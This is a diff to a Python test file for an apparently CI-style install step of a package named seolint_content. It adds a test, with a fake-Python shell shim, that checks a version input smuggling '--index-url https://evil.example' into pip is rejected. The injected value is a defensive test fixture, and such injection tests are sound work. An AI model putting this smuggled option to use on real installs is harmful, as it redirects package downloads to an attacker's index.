@@ -170,7 +170,20 @@ def test_a_version_of_the_package(installed: Runner, wheels: Path) -> None:
     (wheel,) = wheels.glob("seolint_content-*.whl")
     told = step(INSTALL, installed, {**DEFAULTS, "inputs.version": wheel.name.split("-")[1]})
     assert told.code == 0, told.err
-    told = step(INSTALL, installed, {**DEFAULTS, "inputs.version": "0 --index-url https://evil.example"})
+
+
+BORROWED = f"""\
+#!/bin/sh
+if [ "$3" = venv ]; then mkdir -p "$4/bin" && cp "$0" "$4/bin/python"; else exec '{sys.executable}' "$@"; fi
+"""
+"""A Python whose environments are itself: it has pip, which takes seconds to put into each."""
+
+
+def test_a_version_is_no_option_of_pip(installed: Runner, tmp_path: Path) -> None:
+    (tmp_path / "python3").write_text(BORROWED, "utf-8")
+    (tmp_path / "python3").chmod(0o755)
+    borrowed = {**INSTALL, "run": f"PATH={tmp_path}:$PATH\n{INSTALL['run']}"}
+    told = step(borrowed, installed, {**DEFAULTS, "inputs.version": "0 --index-url https://evil.example"})
     assert told.code != 0
     assert "Invalid requirement" in told.err
 
